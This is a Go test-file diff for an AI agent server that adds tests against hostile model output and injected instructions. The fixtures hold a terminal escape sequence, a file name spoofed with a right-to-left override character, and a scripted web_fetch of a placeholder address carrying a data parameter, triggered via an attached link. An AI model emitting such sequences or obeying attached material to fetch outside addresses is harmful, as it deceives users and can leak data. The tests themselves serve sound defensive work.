@@ -252,3 +252,43 @@ func TestServe_BadInput(t *testing.T) {
 		t.Errorf("the analyst: %v", err)
 	}
 }
+
+// What a hostile model, page or file puts into a question or an answer does not act on the editor's terminal.
+func TestServe_ControlSequencesDoNotReachTheEditor(t *testing.T) {
+	env := modelServer(t, llmtest.Call(toolCall("a", "write_report", `{"path":"r\u202eevil.md","content":"x"}`)), llmtest.Say("Done \x1b]0;owned\x07\u202e."))
+	e := &editor{answer: "refuse"}
+	c := connect(t, e, env)
+	s := newSession(t, c, t.TempDir())
+	prompt(t, c, s.SessionId, protocol.TextBlock("write"))
+	if len(e.asked) != 1 {
+		t.Fatalf("asked %d times: %s %q", len(e.asked), e.calls, e.text())
+	}
+	shown := e.text() + *e.asked[0].ToolCall.Title
+	for _, content := range e.asked[0].ToolCall.Content {
+		shown += content.Content.Content.Text.Text
+	}
+	if strings.ContainsAny(shown, "\x1b\x07\u202e") || !strings.Contains(shown, `\u202eevil`) || !strings.Contains(shown, "Done ") {
+		t.Errorf("the editor receives %q", shown)
+	}
+}
+
+// What the editor attaches is material: an address in it is not the user's.
+func TestServe_AttachmentsAreMaterial(t *testing.T) {
+	for _, row := range []struct {
+		name   string
+		blocks []protocol.ContentBlock
+		asks   bool
+	}{
+		{"typed", []protocol.ContentBlock{protocol.TextBlock("hello")}, false},
+		{"a link", []protocol.ContentBlock{protocol.ResourceLinkBlock("letter", "file:///letter")}, true},
+	} {
+		env := modelServer(t, llmtest.Call(toolCall("a", "web_fetch", `{"url":"http://192.0.2.1/?d=1"}`)), llmtest.Say("Done."))
+		e := &editor{answer: "refuse"}
+		c := connect(t, e, env)
+		s := newSession(t, c, t.TempDir())
+		prompt(t, c, s.SessionId, row.blocks...)
+		if len(e.asked) > 0 != row.asks {
+			t.Errorf("%s: asked %d times", row.name, len(e.asked))
+		}
+	}
+}
